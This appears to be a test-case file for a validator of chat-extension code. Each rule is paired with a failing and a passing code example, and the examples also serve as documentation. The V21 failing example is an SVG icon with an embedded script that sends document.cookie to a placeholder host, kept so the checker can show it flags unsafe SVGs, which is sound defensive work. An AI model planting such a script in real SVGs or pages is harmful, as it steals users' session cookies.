/**
 * One failing and one passing example per rule. The same examples are the docs pages
 * (docs/rules/<ID>.md, regenerated with `UPDATE_DOCS=1 npx vitest run test/docs.test.ts`).
 *
 * `body` is appended to HEADER as src/index.ts (baseline src/app.ts and icon.svg are added by the helper);
 * `files` override or add files. Expected findings name the line (body-relative for src/index.ts, absolute
 * for other files) and the text the column points at (first occurrence on that line).
 */
import type { RuleCase } from "./rule-case-types.js";
import { platformCases } from "./rule-cases-platform.js";

export type { Example, Expect, RuleCase } from "./rule-case-types.js";

const app = (replace: [string, string]): string =>
  `import { Extension, ChatExtension } from "@imperal/sdk";

export const ext = new Extension("notes", {
  version: "1.0.0",
  displayName: "Notes",
  description: "Create, organize and search your notes with the help of AI.",
  icon: "icon.svg",
  capabilities: ["notes:read", "notes:write"],
});

export const chat = new ChatExtension(ext, { toolName: "notes", description: "Notes chat tools." });
`.replace(replace[0], replace[1]);

export const ruleCases: RuleCase[] = [
  {
    rule: "V13",
    title: "tools that look like skeleton slots",
    fail: {
      body: `ext.tool("refresh_counts", { description: "Recount the notes." }, async (ctx) => ({
  response: { total: await ctx.store.count("notes") },
}));
`,
      expect: [{ line: 1, at: '"refresh_counts"', severity: "warn" }],
    },
    pass: {
      body: `ext.skeleton("counts", { ttl: 300, alert: true, description: "Note counts." }, async (ctx) => ({
  response: { total: await ctx.store.count("notes") },
}));

ext.tool("skeleton_alert_counts", { description: "Say when the count changes." }, async (_ctx, { old, new: next }) => ({
  response: old?.total !== next?.total ? "Your notes changed" : "",
}));
`,
    },
  },
  {
    rule: "V14",
    title: "manifest v3 conformance",
    fail: {
      files: { "src/app.ts": app(['new Extension("notes"', 'new Extension("Notes_App"']) },
      expect: [{ file: "src/app.ts", line: 3, at: '"Notes_App"' }],
    },
    pass: { files: { "src/app.ts": app(["", ""]) } },
  },
  {
    rule: "V15",
    title: "display name and description",
    fail: {
      files: { "src/app.ts": app(['"Create, organize and search your notes with the help of AI."', '"My extension"']) },
      expect: [{ file: "src/app.ts", line: 6, at: '"My extension"' }],
    },
    pass: { files: { "src/app.ts": app(["", ""]) } },
  },
  {
    rule: "V16",
    title: "icon resolves inside the extension",
    fail: {
      files: { "src/app.ts": app(['icon: "icon.svg"', 'icon: "../shared/icon.svg"']) },
      expect: [{ file: "src/app.ts", line: 7, at: '"../shared/icon.svg"' }],
    },
    pass: { files: { "src/app.ts": app(["", ""]) } },
  },
  {
    rule: "V17",
    title: "params is a module-scope z.object",
    fail: {
      body: `export function register() {
  const Query = z.object({ q: z.string() });
  chat.function("find_notes", { description: "Find notes that match a query.", actionType: "read", params: Query, dataModel: Out }, async () =>
    ActionResult.success({ ok: true }, "Found"),
  );
}
`,
      expect: [{ line: 3, at: "Query, dataModel" }],
    },
    pass: {
      body: `const Query = z.object({ q: z.string() });

chat.function("find_notes", { description: "Find notes that match a query.", actionType: "read", params: Query, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Found"),
);
`,
    },
  },
  {
    rule: "V18",
    title: "no forward references in schemas",
    fail: {
      body: `const TagParams = z.object({ note_id: z.string(), tag: Tag });
const Tag = z.string().min(1);

chat.function("tag_note", { description: "Attach a tag to a note.", actionType: "write", params: TagParams, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Tagged"),
);
`,
      expect: [{ line: 1, at: "Tag })" }],
    },
    pass: {
      body: `const Tag = z.string().min(1);
const TagParams = z.object({ note_id: z.string(), tag: Tag });

chat.function("tag_note", { description: "Attach a tag to a note.", actionType: "write", params: TagParams, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Tagged"),
);
`,
    },
  },
  {
    rule: "V19",
    title: "chat function descriptions",
    fail: {
      body: `chat.function("archive_note", { description: "TODO", actionType: "write", params: Empty, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Archived"),
);
`,
      expect: [{ line: 1, at: '"TODO"' }],
    },
    pass: {
      body: `chat.function("archive_note", { description: "Archive a note so it leaves the main list.", actionType: "write", params: Empty, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Archived"),
);
`,
    },
  },
  {
    rule: "V20",
    title: "actionType is read, write or destructive",
    fail: {
      body: `chat.function("archive_note", { description: "Archive a note so it leaves the main list.", actionType: "update", params: Empty, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Archived"),
);
`,
      expect: [{ line: 1, at: '"update"' }],
    },
    pass: {
      body: `chat.function("archive_note", { description: "Archive a note so it leaves the main list.", actionType: "write", params: Empty, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Archived"),
);
`,
    },
  },
  {
    rule: "V21",
    title: "icon is a safe, valid SVG",
    fail: {
      files: {
        "icon.svg": `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">
  <rect x="3" y="2" width="18" height="20" rx="3" fill="#4f46e5"/>
  <script>fetch("https://example.com/?c=" + document.cookie)</script>
</svg>
`,
      },
      expect: [{ file: "icon.svg", line: 3, at: "<script>" }],
    },
    pass: {
      files: {
        "icon.svg": `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">
  <rect x="3" y="2" width="18" height="20" rx="3" fill="#4f46e5"/>
</svg>
`,
      },
    },
  },
  {
    rule: "V22",
    title: "no console output in handlers",
    fail: {
      body: `chat.function("count_notes", { description: "Count the user's notes.", actionType: "read", params: Empty, dataModel: Out }, async (ctx) => {
  const n = await ctx.store.count("notes");
  console.log("counted", n);
  return ActionResult.success({ ok: n > 0 }, \`You have \${n} notes\`);
});
`,
      expect: [{ line: 3, at: "console" }],
    },
    pass: {
      body: `chat.function("count_notes", { description: "Count the user's notes.", actionType: "read", params: Empty, dataModel: Out }, async (ctx) => {
  const n = await ctx.store.count("notes");
  ctx.log(\`counted \${n}\`, "debug");
  return ActionResult.success({ ok: n > 0 }, \`You have \${n} notes\`);
});
`,
    },
  },
  {
    rule: "V23",
    title: "read functions declare dataModel",
    fail: {
      body: `chat.function("count_notes", { description: "Count the user's notes.", actionType: "read", params: Empty }, async (ctx) =>
  ActionResult.success({ ok: (await ctx.store.count("notes")) > 0 }, "Counted"),
);
`,
      expect: [{ line: 1, at: "chat.function" }],
    },
    pass: {
      body: `chat.function("count_notes", { description: "Count the user's notes.", actionType: "read", params: Empty, dataModel: Out }, async (ctx) =>
  ActionResult.success({ ok: (await ctx.store.count("notes")) > 0 }, "Counted"),
);
`,
    },
  },
  {
    rule: "V24",
    title: "no ctx.skeleton in chat functions and panels",
    fail: {
      body: `ext.panel("overview", { slot: "left", title: "Overview" }, async (ctx) => {
  const snapshot = ctx.skeleton;
  return ui.text(snapshot ? "Snapshot available" : "No snapshot");
});
`,
      expect: [{ line: 2, at: "ctx.skeleton" }],
    },
    pass: {
      body: `ext.panel("overview", { slot: "left", title: "Overview" }, async (ctx) => {
  const total = await ctx.store.count("notes");
  return ui.text(\`You have \${total} notes\`);
});
`,
    },
    note: 'Destructuring (`const { skeleton } = ctx`) and element access (`ctx["skeleton"]`) are reported too. A `ctx.skeleton.get(...)` call in a panel is additionally reported by SKEL-GUARD-1.',
  },
  {
    rule: "V25",
    title: "actions stay explicit and chain-callable",
    fail: {
      body: `chat.function("delete_note", { description: "Delete a note permanently.", actionType: "destructive", params: Empty, dataModel: Out, chainCallable: false }, async () =>
  ActionResult.success({ ok: true }, "Deleted"),
);
`,
      expect: [{ line: 1, at: "false" }],
    },
    pass: {
      body: `chat.function("delete_note", { description: "Delete a note permanently.", actionType: "destructive", params: Empty, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Deleted"),
);
`,
    },
  },
  {
    rule: "V26",
    title: "names are unique identifiers",
    fail: {
      body: `chat.function("create_note", { description: "Create a note with a title.", actionType: "write", params: Empty, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Created"),
);

ext.tool("create_note", { description: "Create a note (plain tool)." }, async () => ({ response: "ok" }));
`,
      expect: [{ line: 5, at: '"create_note"' }],
    },
    pass: {
      body: `chat.function("create_note", { description: "Create a note with a title.", actionType: "write", params: Empty, dataModel: Out }, async () =>
  ActionResult.success({ ok: true }, "Created"),
);

ext.tool("import_notes", { description: "Import notes from a file." }, async () => ({ response: "ok" }));
`,
    },
    note: 'A name that is not an identifier (e.g. "CreateNote") is reported by V26 and, for functions and tools, also by V14 (manifest schema).',
  },
  {
    rule: "V27",
    title: "capabilities are declared",
    fail: {
      files: { "src/app.ts": app(['capabilities: ["notes:read", "notes:write"]', 'capabilities: ["*"]']) },
      expect: [{ file: "src/app.ts", line: 8, at: '"*"', severity: "warn" }],
    },
    pass: { files: { "src/app.ts": app(["", ""]) } },
  },
  {
    rule: "V28",
    title: "errors carry a stable code",
    note: 'A code passed through a helper parameter (`fail(msg, code)`, `(msg, code = "X") => ...`) is checked at each call site of the helper (or at the parameter default when a call omits it).',
    fail: {
      body: `chat.function("open_note", { description: "Open a note by its id.", actionType: "read", params: Empty, dataModel: Out }, async () =>
  ActionResult.error("Note not found"),
);
`,
      expect: [{ line: 2, at: "ActionResult.error", severity: "warn" }],
    },
    pass: {
      body: `chat.function("open_note", { description: "Open a note by its id.", actionType: "read", params: Empty, dataModel: Out }, async () =>
  ActionResult.error("Note not found", { code: "NOTE_NOT_FOUND" }),
);
`,
    },
  },
  {
    rule: "V29",
    title: "ctx.cache ttl and keys",
    note: "The cache is recognised through `const c = ctx` aliases, destructuring (`const { cache } = ctx`, `async ({ cache }) => ...`) and helper parameters typed `ChatContext`/`PanelContext`/`SkeletonContext`. In a template key, the literal parts and substitutions that are known constants are checked.",
    fail: {
      body: `chat.function("recent_notes", { description: "Show the most recent notes.", actionType: "read", params: Empty, dataModel: Out }, async (ctx) => {
  await ctx.cache.set("notes:recent", { ok: true }, { ttlSeconds: 3600 });
  return ActionResult.success({ ok: true }, "Listed");
});
`,
      expect: [{ line: 2, at: "3600" }],
    },
    pass: {
      body: `chat.function("recent_notes", { description: "Show the most recent notes.", actionType: "read", params: Empty, dataModel: Out }, async (ctx) => {
  await ctx.cache.set("notes:recent", { ok: true }, { ttlSeconds: 120 });
  return ActionResult.success({ ok: true }, "Listed");
});
`,
    },
  },
  {
    rule: "V30",
    title: "panel slot and refresh",
    fail: {
      body: `ext.panel("editor", { slot: "main", title: "Editor", refresh: "manual" }, async () => ui.text("Pick a note"));
`,
      expect: [{ line: 1, at: '"main"' }],
    },
    pass: {
      body: `ext.panel("editor", { slot: "center", title: "Editor", refresh: "on_event:notes.created" }, async () => ui.text("Pick a note"));
`,
    },
  },
  {
    rule: "V31",
    title: "system extensions are first-party only",
    fail: {
      files: {
        "src/app.ts": app([
          'capabilities: ["notes:read", "notes:write"],',
          'capabilities: ["notes:read", "notes:write"],\n  system: true,',
        ]),
      },
      expect: [{ file: "src/app.ts", line: 9, at: "true" }],
    },
    pass: { files: { "src/app.ts": app(["", ""]) } },
    note: "Run with `IMPERAL_AUTHOR_ID=<id>` and `IMPERAL_FIRSTPARTY_AUTHOR_IDS=<id>,...` to allow `system: true` for a first-party author.",
  },
  {
    rule: "SKEL-GUARD-1",
    title: "ctx.skeleton.get only in skeleton handlers",
    note: "`ctx` aliases (`const c = ctx`), destructuring (`const { skeleton } = ctx`) and helper parameters typed with an SDK context type are followed (the same holds for SKEL-GUARD-3).",
    fail: {
      body: `ext.tool("notes_digest", { description: "Summarize the notes snapshot." }, async (ctx) => {
  const snap = await ctx.skeleton.get("notes");
  return { response: String(snap?.total ?? 0) };
});
`,
      expect: [{ line: 2, at: "ctx.skeleton.get" }],
    },
    pass: {
      body: `ext.skeleton("notes", { ttl: 300, description: "Note counts." }, async (ctx) => {
  const previous = async () => ctx.skeleton.get("notes");
  const total = await ctx.store.count("notes");
  return { response: { total, changed: (await previous())?.total !== total } };
});
`,
    },
  },
  {
    rule: "SKEL-GUARD-2",
    title: "ctx.skeletonData was removed",
    fail: {
      body: `ext.tool("notes_digest", { description: "Summarize the notes snapshot." }, async (ctx) => {
  const data = ctx.skeletonData;
  return { response: JSON.stringify(data) };
});
`,
      expect: [{ line: 2, at: "ctx.skeletonData" }],
    },
    pass: {
      body: `ext.tool("notes_digest", { description: "Summarize the notes." }, async (ctx) => {
  const total = await ctx.store.count("notes");
  return { response: \`\${total} notes\` };
});
`,
    },
  },
  {
    rule: "SKEL-GUARD-3",
    title: "the kernel is the only skeleton writer",
    fail: {
      body: `ext.skeleton("notes", { ttl: 300, description: "Note counts." }, async (ctx) => {
  const total = await ctx.store.count("notes");
  await ctx.skeleton.update("notes", { total });
  return { response: { total } };
});
`,
      expect: [{ line: 3, at: "ctx.skeleton.update" }],
    },
    pass: {
      body: `ext.skeleton("notes", { ttl: 300, description: "Note counts." }, async (ctx) => {
  const total = await ctx.store.count("notes");
  return { response: { total } };
});
`,
    },
  },
  {
    rule: "MANIFEST-SKELETON-1",
    title: "skeletons are declared with ext.skeleton",
    fail: {
      body: `ext.tool("skeleton_refresh_notes", { description: "Refresh the notes snapshot." }, async (ctx) => ({
  response: { total: await ctx.store.count("notes") },
}));
`,
      expect: [{ line: 1, at: '"skeleton_refresh_notes"' }],
    },
    pass: {
      body: `ext.skeleton("notes", { ttl: 300, description: "Refresh the notes snapshot." }, async (ctx) => ({
  response: { total: await ctx.store.count("notes") },
}));
`,
    },
  },
  {
    rule: "PARSE",
    title: "files that do not parse",
    fail: {
      body: `chat.function("create_note", { description: "Create a note with a title.", actionType: "write", params: Empty, dataModel: Out }, async () => {
  return ActionResult.success({ ok: true }, "Created";
});
`,
      expect: [{ line: 2, at: ";" }],
    },
    pass: {
      body: `chat.function("create_note", { description: "Create a note with a title.", actionType: "write", params: Empty, dataModel: Out }, async () => {
  return ActionResult.success({ ok: true }, "Created");
});
`,
    },
  },
  {
    rule: "CANNOT-VERIFY",
    title: "what the validator cannot check",
    fail: {
      body: `chat["function"]("create_note", { description: "Create a note with a title.", actionType: "write", params: Empty, dataModel: Out }, async () => {
  return ActionResult.success({ ok: true }, "Created");
});
`,
      expect: [{ line: 1, at: 'chat["function"]', severity: "warn" }],
    },
    pass: {
      body: `chat.function("create_note", { description: "Create a note with a title.", actionType: "write", params: Empty, dataModel: Out }, async () => {
  return ActionResult.success({ ok: true }, "Created");
});
`,
    },
    note:
      "Also reported by the engine, at line 1 of the file concerned: a source file over 4 MiB; files past the " +
      "5,000-file cap (one warning per file, or a single warning with the count and the first names when more than " +
      "20 are skipped); directories nested more than 20 levels deep; unreadable files; a tsconfig.json or " +
      "package.json that is a symlink out of the extension root (ignored and never read, so its module aliases do " +
      "not apply); a source file or directory that is a symlink out of the root (not followed).",
  },
  ...platformCases,
];
